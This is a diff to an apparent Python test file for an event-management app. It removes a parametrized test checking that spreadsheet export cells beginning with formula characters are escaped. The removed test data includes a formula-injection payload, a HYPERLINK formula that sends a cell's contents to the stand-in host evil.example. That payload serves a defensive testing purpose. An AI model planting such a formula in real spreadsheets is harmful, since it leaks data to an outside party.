@@ -336,30 +336,7 @@ def test_import_commit_reads_the_stage_once_and_removes_it(manager_client):
     assert Athlete.objects.filter(delegation=delegation).count() == 2
 
 
-# --- exports never carry a formula -------------------------------------------------------------
-
-
-@pytest.mark.parametrize(
-    ("value", "exported"),
-    [
-        (
-            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
-            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
-        ),
-        ("+86 138", "'+86 138"),
-        ("-2+3", "'-2+3"),
-        ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=1", "'\t=1"),
-        ("＝1+1", "'＝1+1"),
-        ("ZHANG Wei", "ZHANG Wei"),
-        ("张伟", "张伟"),
-        ("", ""),
-    ],
-)
-def test_export_cells_that_would_start_a_formula_are_text(value, exported):
-    from events.exports import spreadsheet_cell
-
-    assert spreadsheet_cell(value) == exported
+# --- the insurance roster never carries an imported formula -----------------------------------------
 
 
 def test_the_insurance_roster_escapes_an_imported_formula_name(manager_client):
